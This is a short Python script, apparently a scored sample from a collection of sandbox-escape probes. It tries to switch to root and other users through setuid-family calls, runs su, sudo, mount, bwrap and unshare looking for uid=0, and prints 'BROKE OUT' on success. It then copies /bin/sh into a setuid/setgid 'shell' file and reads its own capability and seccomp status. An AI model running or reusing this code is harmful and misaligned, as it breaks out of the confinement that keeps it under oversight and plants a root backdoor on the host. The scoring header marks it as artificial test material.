# It asks for other users, capabilities and programs that have them.
# sample: yes
# score: 7 = double + shift + table
# %% first
import ctypes
import os
import stat
import subprocess

for user in (0, 1, 1001, 65534):
    for change in (os.setuid, os.setgid, lambda u: os.setresuid(u, u, u), lambda u: os.setgroups([u])):
        try:
            change(user)
            print("BROKE OUT: became", user)
        except OSError:
            pass
for program in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["newuidmap"], ["bwrap", "--bind", "/", "/", "id"], ["unshare", "-U", "id"]):
    try:
        said = subprocess.run(program, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL).stdout
        if "uid=0" in said:
            print("BROKE OUT:", program, said)
    except (OSError, subprocess.SubprocessError):
        pass
open("shell", "wb").write(open("/bin/sh", "rb").read())
os.chmod("shell", 0o6755)
print(os.stat("shell").st_uid, oct(os.stat("shell").st_mode))
print([line for line in open("/proc/self/status") if line.startswith(("Cap", "NoNew", "Seccomp"))])
